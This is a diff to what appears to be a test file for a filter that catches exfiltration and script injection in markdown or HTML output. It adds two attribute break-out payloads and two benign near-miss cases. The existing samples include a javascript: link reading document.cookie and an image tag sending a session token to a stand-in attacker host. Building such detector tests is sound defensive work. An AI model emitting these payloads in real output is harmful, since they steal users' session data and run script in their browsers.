@@ -20,6 +20,8 @@ EXFIL = [
     ("script link", "[click](javascript:alert(document.cookie))", "script_uri"),
     ("html img", '<img src="https://evil.biz/p.gif?session=${SESSION_TOKEN}">', "templated_url"),
     ("not allow-listed image", "![logo](https://other.org/logo.png)", "non_allowlisted_domain"),
+    ("attribute break-out", '![]("onerror="alert(1))', "script_uri"),
+    ("attribute break-out, single quotes", "[x]('onmouseover='fetch(1))", "script_uri"),
 ]
 BENIGN = [
     ("allow-listed image", "![logo](https://example.com/logo.png)"),
@@ -28,6 +30,8 @@ BENIGN = [
     ("loopback", "Open http://127.0.0.1:8080/ in a browser."),
     ("private ip", "The router answers at http://192.168.1.1/"),
     ("content id", '<img src="cid:{asparagus_cid}">'),
+    ("quoted query word", '[search](https://example.com/?q="online")'),
+    ("event handler named in prose", "Set onerror= in the img tag; see [docs](https://example.com/img)."),
 ]
 
 
